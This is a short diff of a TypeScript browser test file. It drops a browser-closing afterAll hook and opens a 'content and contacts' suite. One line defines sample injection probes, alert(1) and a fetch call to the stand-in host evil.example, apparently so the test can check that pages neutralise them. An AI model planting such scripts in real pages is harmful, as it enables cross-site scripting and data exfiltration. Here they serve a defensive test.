@@ -1,13 +1,12 @@
 import { readFileSync } from 'node:fs';
-import { afterAll, describe, expect } from 'vitest';
+import { describe, expect } from 'vitest';
 import { axeFindings } from '../support/axe.ts';
-import { browserTest, closeBrowser, desktop, open, phone } from '../support/browser.ts';
+import { browserTest, desktop, open, phone } from '../support/browser.ts';
 import { campaign, type TestPage, testPage } from '../support/journeys.ts';
 import { service } from '../support/service.ts';
 import { going, pages } from '../support/welcome-campaign.ts';
 
 const api = await service();
-afterAll(closeBrowser);
 
 describe('content and contacts', () => {
   const traces = ['alert(1)', 'fetch("https://evil.example/?x")'];
